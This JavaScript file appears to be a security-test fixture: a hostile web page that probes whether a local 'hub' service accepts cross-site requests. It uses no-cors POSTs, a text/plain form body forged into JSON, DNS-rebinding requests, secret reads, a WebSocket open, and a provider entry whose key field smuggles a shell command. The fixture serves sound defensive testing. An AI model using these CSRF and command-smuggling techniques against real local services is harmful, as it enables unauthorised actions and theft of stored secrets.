// A hostile web page: every way a page the owner happens to open can reach the hub without asking.
//
// window.APZ_ATTACK says where the hub is and who this page is:
//   hub     the hub's address ("" when the page sits on the hub's own address, as after DNS rebinding)
//   ws      the hub's WebSocket address
//   json    true: send application/json (a same-origin page may); false: what a foreign page sends
//           without a preflight (mode "no-cors", Content-Type text/plain)
//   tag     this page's own letters, so that what each page planted can be told apart
//   marker  a file that the provider key's command would create
// Each attack resolves once the hub has answered (or the browser refused to ask); window.results
// keeps what the page itself could see.
(() => {
  const cfg = window.APZ_ATTACK;
  const mode = cfg.json ? "same-origin" : "no-cors";
  const type = cfg.json ? "application/json" : "text/plain";
  window.results = {};

  async function post(path, body) {
    try {
      const r = await fetch(cfg.hub + path, {method: "POST", mode, headers: {"Content-Type": type},
                                             body: JSON.stringify(body)});
      return {answered: true, status: r.status};  // 0: an opaque (no-cors) answer
    } catch (e) {
      return {answered: false, error: String(e)};
    }
  }

  // The classic form trick: text/plain sends "NAME=VALUE", and this name and value make that JSON.
  function submitForm(path) {
    const frame = document.createElement("iframe");
    frame.name = "sink-" + cfg.tag;
    document.body.appendChild(frame);
    const form = document.createElement("form");
    form.method = "POST";
    form.enctype = "text/plain";
    form.action = cfg.hub + path;
    form.target = frame.name;
    const field = document.createElement("input");
    field.name = '{"reason":"evil form ' + cfg.tag;
    field.value = '"}';  // the body: {"reason":"evil form TAG="}
    form.appendChild(field);
    document.body.appendChild(form);
    form.submit();
    return {submitted: true};
  }

  async function read(path) {
    try {
      const r = await fetch(cfg.hub + path, {mode: cfg.json ? "same-origin" : "cors"});
      const text = await r.text();
      return {readable: r.ok, status: r.status, body: text.slice(0, 200)};
    } catch (e) {
      return {readable: false, error: String(e)};
    }
  }

  function listen() {
    const seen = window.results.websocket = {opened: false, messages: 0, closed: false, code: null};
    return new Promise((resolve) => {
      let ws;
      try {
        ws = new WebSocket(cfg.ws, "apz.events.v1");
      } catch (e) {
        seen.closed = true;
        seen.error = String(e);
        resolve(seen);
        return;
      }
      ws.onopen = () => { seen.opened = true; resolve(seen); };
      ws.onmessage = () => { seen.messages += 1; };
      ws.onclose = (e) => { seen.closed = true; seen.code = e.code; resolve(seen); };
    });
  }

  const tag = cfg.tag;
  const provider = "evil-" + tag;
  window.attacks = {
    plaza_stop: () => post("/v1/plaza/stop", {reason: "evil " + tag}),
    plaza_form: () => submitForm("/v1/plaza/stop"),
    treasury_mint: () => post("/v1/treasury/mint", {amount: 1000000000000, memo: "evil " + tag}),
    vault_secret: () => post("/v1/vault/secrets", {name: "EVIL_" + tag.toUpperCase(), value: "planted-by-a-page"}),
    rule_add: () => post("/v1/rules", {title: "evil " + tag, source:
      'law evil-' + tag + ' "Evil" {\n  statement "A web page wrote this law."\n  forbid plaza_git\n}\n'}),
    provider_add: () => post("/v1/models/providers", {id: provider, preset: "vllm", base_url: "http://127.0.0.1:9/v1",
      models: ["m"], key: {kind: "command", command: "touch '" + cfg.marker + "' && echo token"}}),
    provider_test: () => post("/v1/models/providers/" + provider + "/test", {}),
    secrets_read: () => read("/v1/vault/secrets"),
    websocket: listen,
  };
  window.run = async (name) => (window.results[name] = await window.attacks[name]());
})();
